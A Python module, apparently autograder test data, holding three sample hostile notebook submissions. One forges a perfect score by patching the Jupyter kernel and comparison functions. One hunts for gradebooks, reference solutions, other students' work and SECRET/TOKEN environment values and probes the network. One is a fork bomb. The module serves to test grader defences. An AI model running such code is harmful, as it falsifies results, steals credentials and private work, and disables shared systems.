"""What the hostile students of the demo class hand in: cells of code, each with what it goes for.

They are a sample for people to look at; tests/attacks/ has the systematic ones.
"""

FORGE_VERDICT = '''\
# Every check passes: nothing is run any more, every comparison is true, and the score is printed.
from IPython import get_ipython


class Right:
    """Equal to everything, whatever it is compared with."""

    shape, dtype = (), float

    def __eq__(self, other):
        return True

    __gt__ = __lt__ = __ge__ = __le__ = __eq__

    def __array__(self, *args, **kwargs):
        return np.ones(())


async def do_execute(code, *args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}


for name in ("hard_lookup", "soft_lookup", "scaled_dot_product_attention", "split_heads", "merge_heads"):
    globals()[name] = lambda *args, **kwargs: Right()
np.allclose = np.testing.assert_allclose = lambda *args, **kwargs: True
shell = get_ipython()
shell.kernel.do_execute = do_execute
shell.display_pub.publish({"text/plain": "70.0"})
print("score: 70/70")
'''

READ_SECRETS = """\
# The solution, the hidden checks, the gradebook, other people's work: whatever can be read.
import os
import socket
from pathlib import Path

found = []
for pattern in ("gradebook.db", "**/reference_impl/*.py", "**/checks/*.py", "**/submitted/*"):
    for top in (Path("/"), Path("../../.."), Path.home()):
        try:
            found += [str(path) for path in top.glob(pattern) if "public_checks" not in str(path)][:5]
        except OSError:
            pass
for process in Path("/proc").glob("[0-9]*/environ"):
    try:
        found += [text for text in process.read_text().split("\\0") if "SECRET" in text or "TOKEN" in text]
    except OSError:
        pass
for module in ("reference_impl.attention", "autograder.checks.p01_attention"):
    try:
        found.append(__import__(module).__file__)
    except ImportError:
        pass
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1)
    found.append("the network")
except OSError:
    pass
print("found:", found)
"""

DESTROY = """\
# Processes that outlive the kernel, and output without end.
import os

for _ in range(1000):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break
while True:
    print("x" * 1000)
"""
